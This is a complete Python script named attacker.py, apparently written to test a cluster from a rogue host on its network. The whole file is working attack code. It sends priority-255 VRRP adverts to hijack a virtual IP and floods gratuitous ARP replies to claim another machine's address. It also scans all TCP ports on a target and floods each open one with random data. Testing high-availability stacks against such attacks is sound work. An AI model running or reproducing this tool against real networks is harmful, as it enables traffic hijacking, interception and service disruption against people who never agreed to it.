"""A machine on the nodes' network that is no node of the stack. Linux, root, its interface is eth0.

Usage: attacker.py vrrp SOURCE TARGET VIP ROUTER_ID TTL SECONDS    adverts of the highest priority, each tenth of a second
       attacker.py arp ADDRESS SECONDS                             says that the address is its own
       attacker.py ports ADDRESS...                                what is open, and what becomes of it when told nonsense
"""

import os
import selectors
import socket
import struct
import sys
import time

INTERFACE = "eth0"
AT_ONCE = 200


def checksum(data: bytes) -> int:
    """RFC 1071"""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source: str, target: str, vip: str, router: int) -> bytes:
    """VRRP version 3 (RFC 5798, 5.2): priority 255, each 0.2 s."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    parts = (0x31, router, 255, 1, 20)
    plain = struct.pack("!BBBBHH", *parts, 0) + socket.inet_aton(vip)
    pseudo = ends + struct.pack("!BBH", 0, 112, len(plain))
    return struct.pack("!BBBBHH", *parts, checksum(pseudo + plain)) + socket.inet_aton(vip)


def send_adverts(source: str, target: str, vip: str, router: int, ttl: int, seconds: float) -> None:
    told = advert(source, target, vip, router)
    header = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(told), 1, 0, ttl, 112, 0)
    packet = header + socket.inet_aton(source) + socket.inet_aton(target) + told
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            out.sendto(packet, (target, 0))
            time.sleep(0.1)


def claim_address(address: str, seconds: float) -> None:
    with open(f"/sys/class/net/{INTERFACE}/address", encoding="ascii") as file:
        own = bytes.fromhex(file.read().strip().replace(":", ""))
    everybody, ip = b"\xff" * 6, socket.inet_aton(address)
    reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + ip + everybody + ip
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((INTERFACE, 0))
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            out.send(everybody + own + b"\x08\x06" + reply)
            time.sleep(0.1)


def open_ports(address: str) -> "list[int]":
    """All of TCP: who is there answers at once, that it is open or that it is not."""
    found, waiting = [], iter(range(1, 65_536))
    with selectors.DefaultSelector() as selector:
        begun: dict[socket.socket, float] = {}
        more = True
        while more or begun:
            while more and len(begun) < AT_ONCE:
                port = next(waiting, None)
                more = port is not None
                if port is not None:
                    one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    one.setblocking(False)
                    one.connect_ex((address, port))
                    begun[one] = time.monotonic()
                    selector.register(one, selectors.EVENT_WRITE, port)
            for key, _ in selector.select(0.2):
                if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:  # type: ignore[union-attr]
                    found.append(key.data)
                begun[key.fileobj] = 0  # type: ignore[index]
            for one in [each for each, since in begun.items() if time.monotonic() - since > 3]:
                selector.unregister(one)
                one.close()
                del begun[one]
    return sorted(found)


def talk_nonsense(address: str, port: int) -> None:
    """A megabyte, or as much as it takes within a few seconds."""
    end = time.monotonic() + 5
    try:
        with socket.create_connection((address, port), 5) as one:
            for _ in range(64):
                if time.monotonic() > end:
                    break
                one.sendall(os.urandom(16_384))
    except OSError:
        pass


def main(do: str, *words: str) -> None:
    if do == "vrrp":
        source, target, vip, router, ttl, seconds = words
        send_adverts(source, target, vip, int(router), int(ttl), float(seconds))
    elif do == "arp":
        claim_address(words[0], float(words[1]))
    else:
        for address in words:
            for port in open_ports(address):
                talk_nonsense(address, port)
                print(address, port, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
